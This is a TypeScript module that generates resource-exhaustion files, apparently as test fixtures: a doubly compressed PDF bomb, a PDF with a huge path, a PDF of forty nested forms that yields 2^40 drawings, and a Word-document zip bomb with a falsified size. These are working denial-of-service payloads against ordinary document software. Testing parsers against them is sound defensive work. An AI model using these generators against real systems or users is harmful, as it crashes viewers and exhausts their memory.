/** Files made to harm whoever opens them. Each is small; what it unpacks to is not. */
import { deflateSync } from "node:zlib";
import { bytesOf, pdfBytes } from "./pdf_bytes.ts";
import { zipBytes } from "./zip_bytes.ts";

/** 6 KB that are packed twice and hold 1.5 GB of spaces. */
export async function inflatingPdf(): Promise<Uint8Array<ArrayBuffer>> {
  const twice = deflateSync(await packed("deflate", " ".repeat(1_000_000), 1500));
  return pdfBytes([{ content: "/N Do", resources: "/XObject<</N 100 0 R>>" }], {
    100: form(twice, "/Filter[/FlateDecode/FlateDecode]"),
  });
}

/** 0.5 MB that hold one path of a hundred million bytes: pdf.js keeps it outside of V8's own heap. */
export async function hungryPdf(): Promise<Uint8Array<ArrayBuffer>> {
  const path = await packed("deflate", "10 10 l 20 20 l 30 10 l ".repeat(40_000), 100);
  return pdfBytes([{ content: "/N Do f", resources: "/XObject<</N 100 0 R>>" }], {
    100: form(path, "/Filter/FlateDecode"),
  });
}

/** Forms that draw the next one twice, forty times over: 2^40 drawings. */
export function branchingPdf(): Uint8Array<ArrayBuffer> {
  const forms = Array.from({ length: 40 }, (_, at) => {
    return [100 + at, form("/N Do /N Do", `/Resources<</XObject<</N ${101 + at} 0 R>>>>`)] as const;
  });
  const all = { ...Object.fromEntries(forms), 140: form("0 0 1 1 re f", "") };
  return pdfBytes([{ content: "/N Do", resources: "/XObject<</N 100 0 R>>" }], all);
}

export function longPdf(pages: number): Uint8Array<ArrayBuffer> {
  return pdfBytes(
    Array.from({ length: pages }, (_, at) => ({ content: `BT /F 12 Tf 72 700 Td (Page ${at + 1}) Tj ET` })),
  );
}

/** 300 MB of one letter as a document; `says` is the size that its directory claims. */
export async function zipBomb(says = 300_000_000): Promise<Uint8Array<ArrayBuffer>> {
  const content = await packed("deflate-raw", "a".repeat(1_000_000), 300);
  return zipBytes([
    { name: "[Content_Types].xml", packed: await packed("deflate-raw", "<Types/>", 1), size: 8 },
    { name: "word/document.xml", packed: content, size: says },
  ]);
}

function form(content: string | Uint8Array, dictionary: string): Uint8Array {
  const head = `<</Type/XObject/Subtype/Form/BBox[0 0 595 842]${dictionary}/Length ${content.length}>>stream\n`;
  return bytesOf(head, content, "\nendstream");
}

/** `piece`, so many times over, packed without ever being held unpacked. */
async function packed(how: CompressionFormat, piece: string, times: number): Promise<Uint8Array<ArrayBuffer>> {
  const bytes = new TextEncoder().encode(piece);
  const pieces = ReadableStream.from(repeated(bytes, times));
  return await new Response(pieces.pipeThrough(new CompressionStream(how))).bytes();
}

function* repeated<T>(value: T, times: number): Generator<T> {
  for (; times > 0; times--) yield value;
}
